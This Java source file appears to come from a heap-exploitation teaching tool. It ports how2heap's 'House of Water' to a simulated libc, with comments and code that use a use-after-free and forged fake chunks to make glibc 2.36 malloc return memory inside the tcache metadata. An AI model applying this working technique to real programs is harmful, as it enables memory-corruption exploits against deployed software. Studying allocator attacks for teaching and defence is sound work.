package io.mallocscope.samples;

import io.mallocscope.runtime.CProgram;
import io.mallocscope.runtime.LibC;

import static io.mallocscope.runtime.LibC.STDOUT;

/**
 * House of Water (small-bin variant): a port of how2heap's {@code glibc_2.36/house_of_water.c}. With a
 * use-after-free and no leak at all, malloc hands out a chunk inside the tcache's own metadata
 * ({@code tcache_perthread_struct}), from which every tcache list can then be rewritten.
 *
 * <p>What to notice:
 * a) the fake chunk lies in the tcache struct at heap+0x200: its fd and bk are the tcache's heads for
 *    0x320 and 0x330 (heap+0x210, heap+0x218). Freeing a forged 0x331 chunk just above small_start's
 *    header and a 0x321 one above small_end's makes those heads point at small_start's and small_end's
 *    chunk headers (a tcache head holds chunk + 0x10, which is the header of the chunk after it);
 * b) small_start, relative_chunk and small_end, freed with the 0x90 tcache full and sorted into the 0x90
 *    small bin, are linked small_start, relative_chunk, small_end; overwriting the low byte of
 *    small_start's fd and of small_end's bk with 0 (0x…2a0's chunk 0x…290 becomes 0x…200: relative_chunk
 *    was allocated right after the tcache struct) puts the fake chunk in relative_chunk's place;
 * c) with the 0x90 tcache emptied, malloc(0x88) takes small_end (its bk, the fake chunk, has fd ==
 *    small_end: the small bin's check passes) and stashes the fake chunk and small_start into the tcache;
 *    the next two malloc(0x88) return small_start and heap+0x210, inside the tcache struct.
 *
 * <p>Addresses: the C original's heap starts at 0x55555555a000, not 0x555555559000, because its strings
 * make its binary a page longer (the heap starts after .bss); ours starts at 0x555555559000, so every
 * heap address here is C's minus 0x1000. The C original also prints its tcache "0x320" and "0x330"
 * entries from heap+0x390 and heap+0x398, which are not those entries (they read 0x0); this port prints
 * the entries themselves.
 *
 * <p>Which check stops it: none in 2.36 (how2heap lists it as working on the latest glibc). The fake
 * chunk's size is never checked on the small-bin path, and the tcache stashing loop checks nothing.
 *
 * <p>Run: {@code ./mallocscope run house-of-water}
 */
@Sample(name = "house-of-water", description = "how2heap: a use-after-free turned into a chunk inside the tcache's metadata")
public final class HouseOfWater implements CProgram {

    @Override
    public int main(LibC c, String[] argv) {
        c.setbufNone(STDOUT);
        c.puts("House of Water: malloc returns a chunk inside tcache_perthread_struct.");

        long relativeChunk = c.malloc(0x88);
        c.malloc(0x18); // guard
        long smallStart = c.malloc(0x88);
        c.malloc(0x18); // guard
        long smallEnd = c.malloc(0x88);
        c.malloc(0x18); // guard
        c.printf("relative_chunk: %p\nsmall_start:    %p\nsmall_end:      %p\n", relativeChunk, smallStart, smallEnd);

        long metadata = relativeChunk & ~0xfffL; // the heap's start: the tcache struct's chunk
        long[] x = new long[7];
        for (int i = 0; i < x.length; i++) {
            x[i] = c.malloc(0x88);
        }
        for (long p : x) {
            c.free(p);
        }
        c.puts("The 0x90 tcache is full.");

        // an arbitrary free, simulated: fake 0x331 and 0x321 chunks ending where small_start's and
        // small_end's headers begin, so that the tcache's 0x330 and 0x320 heads point at those headers
        c.putLong(smallStart - 0x18, 0x331);
        c.free(smallStart - 0x10);
        c.putLong(smallStart - 0x8, 0x91); // restore small_start's size word, which the free overwrote
        c.putLong(smallEnd - 0x18, 0x321);
        c.free(smallEnd - 0x10);
        c.putLong(smallEnd - 0x8, 0x91);
        c.printf("Freed a fake 0x330 chunk at %p and a fake 0x320 chunk at %p\n", smallStart - 0x20, smallEnd - 0x20);

        c.free(smallEnd);
        c.free(relativeChunk);
        c.free(smallStart);
        long big = c.malloc(0x700);
        c.printf("free(small_end), free(relative_chunk), free(small_start), then malloc(0x700) = %p sorts them "
                + "into the 0x90 small bin\n", big);
        c.printf("small bin: %p <-> %p <-> %p (small_start, relative_chunk, small_end)\n", smallStart - 0x10,
                relativeChunk - 0x10, smallEnd - 0x10);
        c.printf("tcache head for 0x320 (%p): %p (small_end's chunk)\n", metadata + 0x210, c.getLong(metadata + 0x210));
        c.printf("tcache head for 0x330 (%p): %p (small_start's chunk)\n", metadata + 0x218, c.getLong(metadata + 0x218));
        c.printf("fake chunk at %p: prev_size 0x%lx, size 0x%lx, fd %p, bk %p\n", metadata + 0x200,
                c.getLong(metadata + 0x200), c.getLong(metadata + 0x208), c.getLong(metadata + 0x210),
                c.getLong(metadata + 0x218));

        // the use-after-free: the low byte of small_start's fd and of small_end's bk set to 0
        c.putByte(smallStart, 0);
        c.putByte(smallEnd + 8, 0);
        c.printf("small_start->fd = %p, small_end->bk = %p: the fake chunk replaces relative_chunk\n",
                c.getLong(smallStart), c.getLong(smallEnd + 8));

        for (int i = 0; i < 7; i++) {
            c.malloc(0x88);
        }
        c.puts("Seven malloc(0x88) empty the 0x90 tcache.");
        long a = c.malloc(0x88);
        c.printf("malloc(0x88) = %p (small_end, from the small bin; the fake chunk and small_start go to the tcache)\n", a);
        long b = c.malloc(0x88);
        c.printf("malloc(0x88) = %p (small_start)\n", b);
        long metaChunk = c.malloc(0x88);
        c.printf("malloc(0x88) = %p, inside the tcache struct at %p\n", metaChunk, metadata);
        c.assertTrue(metaChunk == metadata + 0x210, "meta_chunk == metadata + 0x210");
        return 0;
    }
}
